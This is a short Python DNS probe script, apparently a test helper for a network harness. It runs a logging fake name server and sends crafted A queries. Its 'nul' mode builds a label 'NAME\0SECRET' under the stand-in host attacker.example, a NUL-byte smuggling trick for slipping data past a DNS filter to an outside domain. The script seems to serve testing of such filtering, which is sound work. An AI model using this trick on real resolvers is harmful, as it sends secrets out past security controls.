#!/usr/bin/env python3
"""dnsprobe.py - the DNS side of net.sh.

  dnsprobe.py upstream ADDR LOG      a name server on ADDR:53 that logs every
                                     question's raw name and answers NXDOMAIN
  dnsprobe.py ask SERVER NAME [nul]  one A question for NAME to SERVER:53
                                     (SERVER "auto": the first nameserver of
                                     /etc/resolv.conf); "nul" asks for the
                                     one label "NAME\\0SECRET" under
                                     attacker.example instead.
                                     Prints "rcode=N", "timeout" or "error=..."
"""
import socket
import struct
import sys


def question(name, nul):
    labels = name.split(".")
    if nul:
        # one label "NAME\0SECRET" under attacker.example: a stub that
        # judges the text before the NUL sees NAME
        labels = [name + "\0SECRET", "attacker", "example"]
    body = b"".join(bytes([len(l)]) + l.encode("latin-1") for l in labels) + b"\0"
    return struct.pack(">HHHHHH", 0x4347, 0x0100, 1, 0, 0, 0) + body + struct.pack(">HH", 1, 1)


def upstream(addr, log):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    with open(log, "ab", buffering=0) as out:
        out.write(b"ready\n")
        while True:
            data, peer = s.recvfrom(4096)
            out.write(repr(data[12:]).encode() + b"\n")
            reply = bytearray(data)
            reply[2] |= 0x80
            reply[3] = 0x83
            s.sendto(bytes(reply), peer)


def ask(server, name, nul):
    if server == "auto":
        server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(question(name, nul), (server, 53))
        data = s.recv(4096)
        print("rcode=%d" % (data[3] & 0x0F))
    except socket.timeout:
        print("timeout")
    except OSError as e:
        print("error=%s" % e.strerror)


if __name__ == "__main__":
    if sys.argv[1] == "upstream":
        upstream(sys.argv[2], sys.argv[3])
    else:
        ask(sys.argv[2], sys.argv[3], len(sys.argv) > 4 and sys.argv[4] == "nul")
